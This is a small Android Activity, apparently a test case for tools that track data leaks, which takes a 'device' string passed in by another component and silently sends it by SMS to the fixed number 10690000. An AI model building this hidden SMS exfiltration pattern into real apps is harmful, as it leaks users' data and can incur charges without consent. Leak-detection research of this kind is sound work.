package p;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.util.Log;

public class Second extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Log.i("demo", getIntent().getStringExtra("title"));
        send(getIntent().getStringExtra("device"));
    }

    private static void send(String text) {
        SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
    }
}
